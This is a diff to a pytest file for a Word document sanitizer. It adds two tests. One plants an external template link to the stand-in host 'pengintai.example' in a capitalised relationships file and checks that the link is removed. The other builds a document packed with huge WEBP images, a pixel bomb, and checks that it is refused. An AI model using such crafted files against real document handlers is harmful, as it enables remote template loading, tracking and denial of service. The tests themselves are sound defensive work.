@@ -4,9 +4,11 @@ from __future__ import annotations
 
 import struct
 import zipfile
+from io import BytesIO
 from pathlib import Path
 
 import pytest
+from PIL import Image
 
 from tests.base.files import letters, pictures
 from tests.base.files.plants import NAME, TEXT
@@ -179,3 +181,28 @@ def test_a_picture_that_we_do_not_look_into_makes_it_not_complete(corpus: dict[s
 def test_a_broken_photo_within_makes_it_broken(corpus: dict[str, Path], tmp_path: Path) -> None:
     broken: letters.Parts = {"word/media/image1.jpeg": b"\xff\xd8\xff\xe0" + bytes(99)}
     assert refusal_of(letters.repacked(tmp_path / "a.docx", corpus["surat.docx"], broken)) is Refusal.BROKEN
+
+
+def test_relations_under_a_name_in_capitals_ask_nobody(corpus: dict[str, Path], tmp_path: Path) -> None:
+    name = "word/_rels/catatan.xml.RELS"
+    remote = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
+        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+        'Target="http://pengintai.example/a.dotm" TargetMode="External"/></Relationships>'
+    )
+    archive, result = cleaned(letters.repacked(tmp_path / "surat.docx", corpus["surat.docx"], {name: remote}))
+    assert b"pengintai" not in archive.read(name)
+    assert Trace.LINKS in result.removed
+
+
+def test_many_pictures_that_cost_nothing_to_send_are_refused_before_they_cost_a_minute(
+    corpus: dict[str, Path], tmp_path: Path
+) -> None:
+    picture, path = BytesIO(), tmp_path / "bom.docx"
+    Image.new("RGB", (8000, 8000)).save(picture, "WEBP", quality=1)
+    path.write_bytes(corpus["surat.docx"].read_bytes())
+    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
+        for number in range(12):
+            archive.writestr(f"word/media/bom{number}.webp", picture.getvalue())
+    assert path.stat().st_size < 2 * MIB
+    assert refusal_of(path) is Refusal.TOO_MANY_PIXELS
